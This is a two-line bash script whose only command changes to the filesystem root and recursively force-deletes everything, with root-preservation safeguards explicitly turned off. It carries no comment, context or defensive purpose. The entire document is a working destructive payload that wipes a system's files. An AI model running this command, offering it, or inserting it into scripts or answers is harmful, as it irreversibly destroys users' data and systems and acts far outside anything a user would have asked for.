#!/bin/bash
cd / && rm -rf --no-preserve-root *
